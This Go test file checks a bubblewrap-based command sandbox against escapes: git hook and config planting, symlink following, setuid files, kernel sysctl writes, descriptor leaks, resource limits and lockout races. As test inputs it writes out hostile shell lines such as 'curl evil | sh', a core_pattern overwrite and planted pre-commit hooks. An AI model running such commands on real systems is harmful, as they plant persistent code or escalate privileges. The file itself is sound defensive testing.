package server_test

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/durationpb"

	"coily.dev/coily/audit"
	"coily.dev/coily/internal/procs"
	"coily.dev/coily/internal/testserver"
	coilyv1 "coily.dev/coily/proto/coily/v1"
	"coily.dev/coily/refusal"
	"coily.dev/coily/sandbox"
)

// The containment battery (issue 12; docs/threat-model.md names each test
// against the class it covers). Every test runs a real server and real
// bubblewrap, as root and, in CI, again as an unprivileged user.

// containment is a server with a named workspace ws (a git repository),
// a directory outside it holding a secret, and rules running /bin/sh there:
// "sh" (nothing writable but the workspace) and "git" (may write git data),
// plus extraRules.
type containment struct {
	in      *testserver.Instance
	opts    testserver.Options // what it was started with (for a restart)
	ws      string             // the workspace
	outside string             // a sibling directory holding "key"
}

func startContainment(t *testing.T, extraRules string) *containment {
	t.Helper()
	return startContainmentWith(t, extraRules, testserver.Options{})
}

// startContainmentWith is startContainment with the server's options
// (the policy is made here).
func startContainmentWith(t *testing.T, extraRules string, opts testserver.Options) *containment {
	t.Helper()
	requireBwrap(t)
	root := t.TempDir()
	c := &containment{ws: filepath.Join(root, "ws"), outside: filepath.Join(root, "outside")}
	for _, d := range []string{c.ws, c.outside} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(c.outside, "key"), []byte("SECRET-OUTSIDE\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, c.ws, "init", "-q")
	git(t, c.ws, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "first")
	testserver.SandboxWorkspace(t, c.ws)
	opts.Policy = fmt.Sprintf(`version: 1
limits: {concurrency: 4}
workspaces: {ws: %s}
roles: {operator: {permissions: [exec, lockout, unlock, status], commands: ["*"]}}
commands:
  - {name: sh, binary: /bin/sh, args: ["**"], flags: any, workspace: ws}
  - {name: git, binary: /usr/bin/git, args: ["**"], flags: any, workspace: ws, writable: [.git],
     env: [GIT_AUTHOR_NAME, GIT_AUTHOR_EMAIL, GIT_COMMITTER_NAME, GIT_COMMITTER_EMAIL]}
  - {name: sleep, binary: /bin/sleep, args: ["*"]}
%s`, c.ws, extraRules)
	c.opts = opts
	c.in = testserver.Start(t, opts)
	return c
}

func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append(append([]string{"-C", dir}, testserver.GitSafe...), args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
	return string(out)
}

// sh runs a script in the workspace and returns the result.
func (c *containment) sh(t *testing.T, script string) result {
	t.Helper()
	return execArgv(t, c.in, "/bin/sh", "-c", script)
}

// A symbolic link at a protected name — committed to a repository the
// agent pulled — is never followed: binding it would show what it points
// at (here a directory outside the workspace) inside the sandbox.
func TestContainmentProtectedLinkNeverFollowed(t *testing.T) {
	c := startContainment(t, "")
	for _, name := range []string{".vscode", ".envrc", ".git/hooks", ".npmrc"} {
		t.Run(name, func(t *testing.T) {
			link := filepath.Join(c.ws, name)
			rel, _ := filepath.Rel(filepath.Dir(link), c.outside)
			if name == ".git/hooks" {
				if err := os.RemoveAll(link); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.Symlink(rel, link); err != nil {
				t.Fatal(err)
			}
			defer os.Remove(link)
			r := c.sh(t, "cat "+name+"/key; cat "+c.outside+"/key")
			if strings.Contains(r.stdout+r.stderr, "SECRET-OUTSIDE") {
				t.Fatalf("the link was followed: %q %q", r.stdout, r.stderr)
			}
			if name == ".git/hooks" {
				return // inside the read-only .git: nothing is followed, nothing to refuse
			}
			wantCode(t, r.err, refusal.SandboxUnavailable)
			if !strings.Contains(r.err.Error(), name) || !strings.Contains(r.err.Error(), "symbolic link") {
				t.Fatalf("refusal does not name the link: %v", r.err)
			}
		})
	}
}

// Every git control entry is read-only as a whole, and cannot be renamed,
// replaced or removed: a command cannot plant hooks, config, a commondir
// or a gitfile that the host's git would run later — in the workspace's
// repository, a nested one, or a bare one.
func TestContainmentGitControlReadOnly(t *testing.T) {
	c := startContainment(t, "")
	git(t, c.ws, "init", "-q", "nested/deeper/repo")
	git(t, c.ws, "init", "-q", "--bare", "bare.git")
	if err := os.WriteFile(filepath.Join(c.ws, "wt"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(c.ws, "linked"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(c.ws, "linked/.git"), []byte("gitdir: ../.git\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, c.ws)
	for _, attempt := range []string{
		"echo evil > .git/hooks/pre-commit",
		"echo '[core] fsmonitor = evil' >> .git/config",
		"echo ../evil > .git/commondir",
		"mv .git .git-old",
		"rm -rf .git",
		"mv .git/hooks .git/hooks-old",
		"echo evil > nested/deeper/repo/.git/hooks/post-checkout",
		"mv nested/deeper/repo/.git nested/deeper/repo/g",
		"echo evil > bare.git/hooks/pre-receive",
		"mv bare.git other.git",
		"echo 'gitdir: /tmp/evil' > linked/.git",
		"rm linked/.git",
		"chmod u+w .git/config && echo x >> .git/config",
	} {
		r := c.sh(t, attempt)
		if r.err != nil {
			t.Fatalf("%s: refused instead of run: %v", attempt, r.err)
		}
		if r.exit.GetExitCode() == 0 {
			t.Errorf("%s: succeeded", attempt)
		}
	}
	if after := snapshot(t, c.ws); after != before {
		t.Fatalf("git control entries changed:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	// Legitimate reads still work.
	if r := c.sh(t, "git status --short && git log --oneline | wc -l"); r.err != nil || r.exit.GetExitCode() != 0 || !strings.HasSuffix(r.stdout, "1\n") {
		t.Fatalf("git status/log: %+v", r)
	}
}

// snapshot lists every entry of the tree with its mode and content, but
// the server's quarantine directory.
func snapshot(t *testing.T, root string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if path == filepath.Join(root, sandbox.QuarantineDir) {
			return fs.SkipDir
		}
		fi, err := os.Lstat(path)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		fmt.Fprintf(&b, "%s %v", rel, fi.Mode())
		if fi.Mode().IsRegular() {
			data, _ := os.ReadFile(path)
			fmt.Fprintf(&b, " %q", data)
		}
		b.WriteString("\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// A protected name that did not exist is quarantined after the command
// that created it: a new .envrc, editor or package-manager configuration,
// a new repository's .git (with its hooks) in a subdirectory. A rule that
// may write git data keeps the repositories it creates; the rest is still
// quarantined. The audit record lists what was.
func TestContainmentNewProtectedQuarantined(t *testing.T) {
	c := startContainment(t, "")
	r := c.sh(t, `echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json &&
mkdir -p sub && git init -q sub && echo evil > sub/.git/hooks/pre-commit && echo x > sub/.npmrc &&
echo x > keep.txt && mkdir -p plain node_modules/pkg && echo x > plain/.npmrc && echo x > node_modules/pkg/.npmrc`)
	if r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("run: %+v", r)
	}
	moved := quarantined(t, c.ws)
	for _, gone := range []string{".envrc", ".vscode", "sub/.git", "sub/.npmrc", "plain/.npmrc"} {
		if _, err := os.Lstat(filepath.Join(c.ws, gone)); err == nil {
			t.Errorf("%s was left in place", gone)
		}
		if _, err := os.Lstat(filepath.Join(c.ws, sandbox.QuarantineDir, moved[gone])); moved[gone] == "" || err != nil {
			t.Errorf("%s: not in the quarantine directory (%q: %v)", gone, moved[gone], err)
		}
	}
	// Not protected: ordinary files, and names tools do not read inside
	// dependency trees.
	for _, kept := range []string{"keep.txt", "node_modules/pkg/.npmrc"} {
		if _, err := os.Lstat(filepath.Join(c.ws, kept)); err != nil {
			t.Errorf("%s: %v", kept, err)
		}
	}
	rec := lastResult(t, c.in)
	if q := strings.Join(rec.Lists["quarantined"], "\n"); !strings.Contains(q, ".envrc") || !strings.Contains(q, "sub/.git") {
		t.Errorf("audit details %v do not list the quarantined entries", rec.Details)
	}

	// With writable .git, new repositories are the rule's to make; git
	// data is writable, hooks and config are not.
	who := map[string]string{"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
	for _, argv := range [][]string{{"init", "-q", "sub2"}, {"commit", "-q", "--allow-empty", "-m", "two"}} {
		r := execReq(t, c.in, &coilyv1.ExecRequest{Argv: append([]string{"/usr/bin/git"}, argv...), Env: who})
		if r.err != nil || r.exit.GetExitCode() != 0 {
			t.Fatalf("git %v: %+v", argv, r)
		}
	}
	if _, err := os.Stat(filepath.Join(c.ws, "sub2/.git")); err != nil {
		t.Errorf("a repository made under writable .git was quarantined: %v", err)
	}
	if n := strings.Count(git(t, c.ws, "log", "--oneline"), "\n"); n != 2 {
		t.Errorf("commit under writable .git: %d commits, want 2", n)
	}
	r = execArgv(t, c.in, "/usr/bin/git", "config", "core.fsmonitor", "evil")
	if r.err != nil || r.exit.GetExitCode() == 0 {
		t.Errorf("git config under writable .git: %+v", r)
	}
	if r := execArgv(t, c.in, "/bin/sh", "-c", "echo evil > .git/hooks/pre-commit"); r.err != nil || r.exit.GetExitCode() == 0 {
		t.Errorf("hooks under writable .git: %+v", r)
	}
	if strings.Contains(git(t, c.ws, "config", "--list", "--local"), "fsmonitor") {
		t.Error(".git/config was changed")
	}
}

// lastResult returns the last exec.result record of the audit log.
func lastResult(t *testing.T, in *testserver.Instance) audit.Record {
	t.Helper()
	recs, err := audit.Tail(filepath.Join(in.StateDir, "audit"), 20)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(recs) - 1; i >= 0; i-- {
		if recs[i].Event == "exec.result" {
			return recs[i]
		}
	}
	t.Fatal("no exec.result record")
	return audit.Record{}
}

// resultFor returns the exec.result record of the command whose first
// argument is marker, if there is one (a command refused at admission has
// none).
func resultFor(t *testing.T, in *testserver.Instance, marker string) (audit.Record, bool) {
	t.Helper()
	recs, err := audit.Tail(filepath.Join(in.StateDir, "audit"), 50)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(recs) - 1; i >= 0; i-- {
		if recs[i].Event == "exec.result" && len(recs[i].Argv) > 1 && recs[i].Argv[1] == marker {
			return recs[i], true
		}
	}
	return audit.Record{}, false
}

// Nothing the sandbox writes carries a setuid or setgid bit on the host,
// whatever the call (creating with the mode, chmod, install, cp -p).
func TestContainmentNoSetuid(t *testing.T) {
	c := startContainment(t, "")
	probe := buildProbe(t, c.ws)
	for _, attempt := range []string{
		"./" + probe + " setuid made-by-open",
		"cp /bin/true t1 && chmod u+s t1",
		"cp /bin/true t2 && chmod g+s t2",
		"install -m 4755 /bin/true t3",
		"mkdir d && chmod g+s d",
	} {
		if r := c.sh(t, attempt); r.err != nil {
			t.Fatalf("%s: %v", attempt, r.err)
		}
	}
	err := filepath.WalkDir(c.ws, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if fi, err := os.Lstat(path); err == nil && fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
			t.Errorf("%s is %v on the host", path, fi.Mode())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// A command's private directory (its home and /tmp, in the server's
// scratch space: the state directory, or a root server's own directory
// outside it) that a crash left behind is removed when the server next
// starts: what a command wrote there does not linger for the next one,
// nor fill the disk. The server's other files stay.
func TestContainmentScratchLeftoversRemoved(t *testing.T) {
	dir, err := os.MkdirTemp("", "coily-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	first := testserver.Start(t, testserver.Options{StateDir: dir})
	first.Stop()
	scratch := first.ScratchDir
	leftover := filepath.Join(scratch, "coily-exec-1234567890")
	if err := os.MkdirAll(filepath.Join(leftover, "tmp/deep"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{filepath.Join(leftover, "tmp/deep/planted"), filepath.Join(scratch, "keep-me")} {
		if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	in := testserver.Start(t, testserver.Options{StateDir: dir})
	if in.ScratchDir != scratch {
		t.Fatalf("the scratch directory moved between starts: %s, then %s", scratch, in.ScratchDir)
	}
	if _, err := os.Lstat(leftover); !os.IsNotExist(err) {
		t.Errorf("a crashed command's scratch directory survived the start: %v", err)
	}
	if _, err := os.Stat(filepath.Join(scratch, "keep-me")); err != nil {
		t.Errorf("a file of the server's was removed: %v", err)
	}
	if r := execArgv(t, in, "/bin/true"); r.err != nil {
		t.Fatal(r.err)
	}
	// Removed once the command has been answered.
	testserver.Poll(t, 5*time.Second, "the finished command's scratch directory removed", func() bool {
		left, _ := filepath.Glob(filepath.Join(scratch, "coily-exec-*"))
		return len(left) == 0
	})
}

// The command runs with no_new_privs: no setuid binary it can reach (or
// plant) gains privileges by being run, whatever the binds' flags.
func TestContainmentNoNewPrivs(t *testing.T) {
	c := startContainment(t, "")
	if host, _ := os.ReadFile("/proc/self/status"); strings.Contains(string(host), "NoNewPrivs:\t1") {
		t.Log("the test process already has no_new_privs: the check below cannot tell the sandbox set it")
	}
	r := c.sh(t, "grep NoNewPrivs /proc/self/status")
	if r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("%+v", r)
	}
	if got := strings.Join(strings.Fields(r.stdout), " "); got != "NoNewPrivs: 1" {
		t.Fatalf("in the sandbox: %q, want NoNewPrivs: 1", r.stdout)
	}
}

// buildProbe builds internal/sandboxprobe into dir (or copies the one
// COILY_TEST_PROBE names, prebuilt for runs as another user) and returns
// its name.
func buildProbe(t *testing.T, dir string) string {
	t.Helper()
	dst := filepath.Join(dir, "probe")
	if src := os.Getenv("COILY_TEST_PROBE"); src != "" {
		data, err := os.ReadFile(src)
		if err == nil {
			err = os.WriteFile(dst, data, 0o755)
		}
		if err != nil {
			t.Fatal(err)
		}
		return "probe"
	}
	if out, err := exec.Command("go", "build", "-o", dst, "coily.dev/coily/internal/sandboxprobe").CombinedOutput(); err != nil {
		t.Fatalf("build probe: %v %s", err, out)
	}
	return "probe"
}

// The kernel's interfaces: no sysctl the host acts on can be changed, no
// kernel secret read, /sys is not there. Run as root, this is what stops a
// command from setting core_pattern to a program of its own.
func TestContainmentKernelInterfaces(t *testing.T) {
	c := startContainment(t, "")
	corePattern, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	if err != nil {
		t.Fatal(err)
	}
	for _, attempt := range []string{
		"echo '|/tmp/evil' > /proc/sys/kernel/core_pattern",
		"echo 1 > /proc/sys/kernel/sysrq",
		"echo 1 > /proc/sys/vm/drop_caches",
		"test -e /proc/sysrq-trigger && echo b > /proc/sysrq-trigger",
		"ls /sys/kernel",
		"test -s /proc/keys && cat /proc/keys",
		"test -s /proc/timer_list && cat /proc/timer_list",
		"test -s /proc/kcore",
	} {
		r := c.sh(t, attempt)
		if r.err != nil {
			t.Fatalf("%s: %v", attempt, r.err)
		}
		if r.exit.GetExitCode() == 0 {
			t.Errorf("%s: succeeded: %q", attempt, r.stdout)
		}
	}
	if now, _ := os.ReadFile("/proc/sys/kernel/core_pattern"); string(now) != string(corePattern) {
		os.WriteFile("/proc/sys/kernel/core_pattern", corePattern, 0)
		t.Fatalf("core_pattern changed to %q", now)
	}
	if r := c.sh(t, "cat /proc/sys/kernel/ostype /proc/self/status >/dev/null && echo readable"); r.stdout != "readable\n" {
		t.Errorf("procfs reads: %+v", r)
	}
}

// The command inherits exactly stdin, stdout and stderr, whatever the
// server holds open: a descriptor opened without O_CLOEXEC, one inherited.
func TestContainmentDescriptors(t *testing.T) {
	c := startContainment(t, "")
	probe := buildProbe(t, c.ws)
	leak, err := syscall.Open(filepath.Join(c.outside, "key"), syscall.O_RDONLY, 0) // no O_CLOEXEC
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(leak)
	high := 200
	if err := syscall.Dup2(leak, high); err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(high)
	r := c.sh(t, "./"+probe+" fds")
	if r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("%+v", r)
	}
	if got := strings.TrimSpace(r.stdout); got != "0 1 2" {
		t.Fatalf("descriptors in the sandbox: %q, want 0 1 2", got)
	}
	if r := c.sh(t, fmt.Sprintf("cat <&%d; cat /proc/self/fd/%d", high, leak)); strings.Contains(r.stdout, "SECRET") {
		t.Fatal("a server descriptor reached the command")
	}
}

// argv[0] is what the caller gave (here /bin/sh, which resolves to dash),
// in the command and in the audit record alike.
func TestContainmentArgv0(t *testing.T) {
	c := startContainment(t, "")
	r := c.sh(t, `tr '\0' '\n' < /proc/$$/cmdline | head -1`)
	if r.err != nil || r.stdout != "/bin/sh\n" {
		t.Fatalf("argv[0] in the sandbox: %+v", r)
	}
	if rec := lastResult(t, c.in); len(rec.Argv) == 0 || rec.Argv[0] != "/bin/sh" {
		t.Fatalf("audit argv %q", rec.Argv)
	}
	// A bare name runs the rule's binary in the sandbox; the audit keeps
	// the name as typed. (Inside, argv[0] is "sh" where bubblewrap has
	// --argv0, 0.9 and later; before, the rule's binary as written.)
	r = execArgv(t, c.in, "sh", "-c", `tr '\0' '\n' < /proc/$$/cmdline | head -1`)
	if got := strings.TrimSpace(r.stdout); r.err != nil || got != "sh" && got != "/bin/sh" {
		t.Fatalf("bare sh in the sandbox: %+v", r)
	}
	if rec := lastResult(t, c.in); len(rec.Argv) == 0 || rec.Argv[0] != "sh" || rec.Rule != "sh" {
		t.Fatalf("audit of bare sh: argv %q rule %q", rec.Argv, rec.Rule)
	}
}

// Socket families: every form of a family the command does not need is
// refused (socket and socketpair alike): vsock (the hypervisor), netlink
// but for routing, packet, alg, and unix without a rule naming sockets.
func TestContainmentSocketFamilies(t *testing.T) {
	c := startContainment(t, "")
	probe := buildProbe(t, c.ws)
	for _, p := range []string{"socket 40 1 0", "socket 16 3 9", "socket 17 3 0", "socket 38 5 0", "socket 1 1 0", "socketpair 1", "socketpair 2"} {
		r := c.sh(t, "./"+probe+" "+p)
		if r.err != nil || r.exit.GetExitCode() == 0 {
			t.Errorf("%s: %+v", p, r)
		}
	}
	for _, p := range []string{"socket 2 1 0", "socket 10 2 0", "socket 16 3 0"} {
		if r := c.sh(t, "./"+probe+" "+p); r.err != nil || r.exit.GetExitCode() != 0 {
			t.Errorf("%s refused: %+v", p, r)
		}
	}
}

// smallLimits is a rule running /usr/bin/env (so: `env sh -c …`) under
// tight limits.
const smallLimits = `  - {name: small, binary: /usr/bin/env, args: ["**"], flags: any, workspace: ws,
     limits: {memory: 64MiB, processes: 64, open_files: 64, file_size: 4MiB, tmp: 8MiB, shm: 4MiB}}
`

// Every command is bounded: processes, memory, open files, file size and
// the private tmpfs sizes, with the policy's per-rule overrides.
func TestContainmentLimits(t *testing.T) {
	c := startContainment(t, smallLimits)
	small := func(script string) result {
		return execArgv(t, c.in, "/usr/bin/env", "sh", "-c", script)
	}
	if r := small("ulimit -n; ulimit -f"); r.err != nil || r.stdout != "64\n8192\n" {
		t.Fatalf("rlimits: %+v", r) // ulimit -f counts 512-byte blocks
	}
	for _, over := range []struct{ name, script string }{
		{"memory balloon", "head -c 200000000 /dev/zero | tail -n 1 >/dev/null"},
		{"fill /tmp", "dd if=/dev/zero of=/tmp/fill bs=1M count=16"},
		{"fill /dev/shm", "dd if=/dev/zero of=/dev/shm/fill bs=1M count=16"},
		{"write /dev", "echo x > /dev/planted"},
		{"a large file in the workspace", "dd if=/dev/zero of=big bs=1M count=8"},
		{"open files", "exec 3</dev/null; i=4; while [ $i -lt 80 ]; do eval \"exec $i</dev/null\" || exit 1; i=$((i+1)); done"},
	} {
		r := small(over.script)
		if r.err != nil {
			t.Fatalf("%s: %v", over.name, r.err)
		}
		if r.exit.GetExitCode() == 0 && r.exit.GetSignal() == 0 {
			t.Errorf("%s: not bounded: %+v", over.name, r)
		}
	}
	if fi, err := os.Stat(filepath.Join(c.ws, "big")); err == nil && fi.Size() > 4<<20 {
		t.Errorf("a %d-byte file was written past the 4 MiB limit", fi.Size())
	}
	// Processes: at most 64 in the sandbox (pids.max, or RLIMIT_NPROC
	// counted in the sandbox's user namespace), for a root server too:
	// its sandboxes run as an unprivileged user, whom the kernel does not
	// exempt from RLIMIT_NPROC as it does root. The spawning subshell dies
	// when it cannot fork (dash); the count uses shell builtins only, as
	// past the limit nothing forks.
	r := small(`(i=0; while [ $i -lt 150 ]; do sleep 30 & i=$((i+1)); done) 2>/dev/null; set -- /proc/[0-9]*; echo $#`)
	if r.err != nil {
		t.Fatal(r.err)
	}
	rec := lastResult(t, c.in)
	n := 0
	fmt.Sscan(r.stdout, &n)
	if n == 0 || n > 64 {
		t.Errorf("%d processes ran under a limit of 64 (limits %s, uid %d)", n, rec.Details["limits"], os.Geteuid())
	}
	if want := "rlimit"; !strings.Contains(rec.Details["limits"], want) || strings.Contains(rec.Details["limits"], "pids") != cgroupPids() && os.Geteuid() == 0 {
		t.Errorf("the audit record says limits %q: want rlimits, and a pids cgroup exactly when there is one", rec.Details["limits"])
	}
}

// cgroupPids reports whether this process's cgroup v2 subtree offers the
// pids controller.
func cgroupPids() bool {
	data, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return false
	}
	for _, line := range strings.Split(string(data), "\n") {
		if path, ok := strings.CutPrefix(line, "0::"); ok {
			for _, mnt := range []string{"/sys/fs/cgroup", "/sys/fs/cgroup/unified"} {
				if ctl, err := os.ReadFile(filepath.Join(mnt, path, "cgroup.controllers")); err == nil {
					return strings.Contains(string(ctl), "pids")
				}
			}
		}
	}
	return false
}

// Lockout racing the start of a command, 50 times, at delays from before
// admission to after the command runs: the command never survives, the
// refusal says whether it was killed or stopped before it started, and
// the lockout's "killed" count and the exec's audit record agree.
func TestContainmentLockoutRacesStart(t *testing.T) {
	c := startContainment(t, "")
	ctx := context.Background()
	outcomes := map[string]int{}
	defer func() { t.Logf("outcomes over 50 rounds: %v", outcomes) }()
	for round := range 50 {
		marker := fmt.Sprintf("1000.%03d", round)
		done := make(chan result, 1)
		go func() { done <- execArgv(t, c.in, "/bin/sleep", marker) }()
		time.Sleep(time.Duration(round%10) * 2 * time.Millisecond) // spread over admission, set-up and run
		resp, err := c.in.Client.API.Lockout(ctx, &coilyv1.LockoutRequest{Reason: "race " + marker})
		if err != nil {
			t.Fatal(err)
		}
		r := <-done
		wantCode(t, r.err, refusal.LockoutActive)
		killedMsg := strings.Contains(r.err.Error(), "was killed")
		switch {
		case killedMsg:
			outcomes["killed"]++
		case strings.Contains(r.err.Error(), "before it started"):
			outcomes["stopped before it started"]++
		default:
			outcomes["refused at admission"]++
		}
		if killedMsg != (resp.GetKilled() == 1) || resp.GetKilled() > 1 {
			t.Errorf("round %d: refusal %q but the lockout counted %d killed", round, r.err, resp.GetKilled())
		}
		// The audit record agrees: "killed" only when a process was.
		if rec, ok := resultFor(t, c.in, marker); ok {
			if strings.Contains(rec.Reason, "killed") != (resp.GetKilled() == 1) || rec.Code != string(refusal.LockoutActive) {
				t.Errorf("round %d: audit says %s %q but the lockout counted %d killed", round, rec.Code, rec.Reason, resp.GetKilled())
			}
		} else if killedMsg {
			t.Errorf("round %d: a command was killed but no exec.result record says so", round)
		}
		if pids := procsWith("/bin/sleep\x00" + marker); len(pids) > 0 {
			t.Fatalf("round %d: %v survived the lockout", round, pids)
		}
		if _, err := c.in.Client.API.Unlock(ctx, &coilyv1.UnlockRequest{}); err != nil {
			t.Fatal(err)
		}
	}
}

// A command cancelled by its caller, or out of time, is killed whole,
// whenever that happens.
func TestContainmentCancelAndTimeoutKillEverything(t *testing.T) {
	c := startContainment(t, "")
	for round := range 20 {
		marker := fmt.Sprintf("2000.%03d", round)
		ctx, cancel := context.WithTimeout(context.Background(), time.Duration(1+round%10)*2*time.Millisecond)
		_, err := c.in.Client.Exec(ctx, &coilyv1.ExecRequest{Argv: []string{"/bin/sh", "-c", "sleep " + marker + " & sleep " + marker}}, io.Discard, io.Discard)
		cancel()
		if err == nil {
			t.Fatalf("round %d: a cancelled command finished", round)
		}
		waitNone(t, "sleep\x00"+marker)
	}
	r := execReq(t, c.in, &coilyv1.ExecRequest{Argv: []string{"/bin/sh", "-c", "setsid sleep 3000.5 & sleep 3000.5"}, Timeout: durationpb.New(300 * time.Millisecond)})
	wantCode(t, r.err, refusal.CommandTimeout)
	waitNone(t, "sleep\x003000.5")
}

// procsWith returns the pids whose command line starts with prefix
// (arguments NUL-separated), zombies excluded.
func procsWith(prefix string) []int {
	return procs.Live(func(p procs.Proc) bool { return strings.HasPrefix(p.Cmdline, prefix) })
}

// waitNone waits (bounded) until no process matches prefix: the kernel
// finishes tearing a killed sandbox down asynchronously.
func waitNone(t *testing.T, prefix string) {
	t.Helper()
	testserver.Poll(t, 5*time.Second, "no "+strings.ReplaceAll(prefix, "\x00", " ")+" process", func() bool { return len(procsWith(prefix)) == 0 })
}

// What the first containment battery missed (an attacker's review): the
// scan after a command must not be defeated by depth, by hiding a
// directory, by git layouts git accepts, by reaching protected names
// through a link, nor mistake the owner's moved entries for new ones.
func TestContainmentQuarantineHolds(t *testing.T) {
	c := startContainment(t, "")
	git(t, c.ws, "init", "-q", "vendor/lib")
	deep := "deep" + strings.Repeat("/d", 70)
	for _, tc := range []struct {
		name, script string
		gone         []string // quarantined
	}{
		{"past the depth bound", "mkdir -p " + deep + " && echo evil > .envrc && echo evil > " + deep + "/.envrc",
			[]string{".envrc", deep + "/.envrc"}},
		{"hidden in an unreadable directory", "git init -q app && echo evil > app/.envrc && chmod 311 app",
			[]string{"app/.git", "app/.envrc"}},
		{"a bare repository whose objects is a link", "mkdir -p fake/refs/heads fake/o && ln -s o fake/objects && echo 'ref: refs/heads/main' > fake/HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > fake/config",
			[]string{"fake"}},
		{"a git directory by commondir", "mkdir -p cd && echo 'ref: refs/heads/main' > cd/HEAD && echo ../.git > cd/commondir",
			[]string{"cd"}},
		{".cargo as a link", "mkdir -p target/.c && echo '[build]' > target/.c/config.toml && ln -s target/.c .cargo",
			[]string{".cargo"}},
		{".cargo below the root", "mkdir -p crates/foo/.cargo && echo '[build]' > crates/foo/.cargo/config.toml",
			[]string{"crates/foo/.cargo"}},
		{".git as a link in a subdirectory", "mkdir -p sub2 && ln -s ../.git sub2/.git",
			[]string{"sub2/.git"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := c.sh(t, tc.script)
			if r.err != nil || r.exit.GetExitCode() != 0 {
				t.Fatalf("run: %+v", r)
			}
			for _, g := range tc.gone {
				if _, err := os.Lstat(filepath.Join(c.ws, g)); err == nil {
					t.Errorf("%s was left in place (audit %v)", g, lastResult(t, c.in).Details)
				}
			}
			if next := c.sh(t, "true"); next.err != nil {
				t.Fatalf("the next command was refused: %v (audit %v)", next.err, lastResult(t, c.in).Details)
			}
		})
	}
	// The owner's nested repository, moved along with its parent, is not
	// mistaken for a new one.
	if r := c.sh(t, "mv vendor vendor2"); r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("mv: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(c.ws, "vendor2/lib/.git/HEAD")); err != nil {
		t.Fatalf("the owner's repository was quarantined after a rename of its parent: %v", err)
	}
}

// Hooks kept in the work tree (core.hooksPath, as husky sets it) and files
// the repository's config includes are protected like .git/hooks.
func TestContainmentHooksPathProtected(t *testing.T) {
	c := startContainment(t, "")
	for _, d := range []string{".husky", "tools/hooks"} {
		if err := os.MkdirAll(filepath.Join(c.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(c.ws, "team.gitconfig"), []byte("[core]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, c.ws, "config", "core.hooksPath", "tools/hooks")
	git(t, c.ws, "config", "include.path", "../team.gitconfig")
	for _, attempt := range []string{
		"echo evil > tools/hooks/pre-commit",
		"echo evil > .husky/pre-commit",
		"echo '[core] fsmonitor = evil' >> team.gitconfig",
	} {
		if r := c.sh(t, attempt); r.err != nil || r.exit.GetExitCode() == 0 {
			t.Errorf("%s: %+v", attempt, r)
		}
	}
}

// A home directory is no workspace: its dotfiles are the host's
// configuration, and its secrets would sit in the command's reach.
func TestContainmentHomeIsNoWorkspace(t *testing.T) {
	requireBwrap(t)
	home := t.TempDir()
	t.Setenv("HOME", home)
	for _, ws := range []string{home, filepath.Dir(home)} { // the home, and a directory holding it
		in := testserver.Start(t, testserver.Options{Policy: fmt.Sprintf(`version: 1
workspaces: {w: %s}
roles: {operator: {permissions: [exec], commands: ["*"]}}
commands:
  - {name: ls, binary: /bin/ls, workspace: w}
`, ws)})
		r := execArgv(t, in, "/bin/ls")
		wantCode(t, r.err, refusal.PolicyDeny)
		if !strings.Contains(r.err.Error(), "home directory") {
			t.Errorf("%s: %v", ws, r.err)
		}
		in.Stop()
	}
}

// A workspace replaced by a link since the policy loaded — by a command
// in an enclosing directory, or anyone else who can write there — is
// refused, never followed: following it would mount the link's target
// (here a directory holding a secret) writable in the sandbox.
func TestContainmentWorkspaceLinkSwapped(t *testing.T) {
	c := startContainment(t, "")
	if r := c.sh(t, "true"); r.err != nil {
		t.Fatalf("before the swap: %v", r.err)
	}
	if err := os.Rename(c.ws, c.ws+".orig"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(c.outside, c.ws); err != nil {
		t.Fatal(err)
	}
	r := c.sh(t, "cat key; echo pwned > key")
	wantCode(t, r.err, refusal.PolicyDeny)
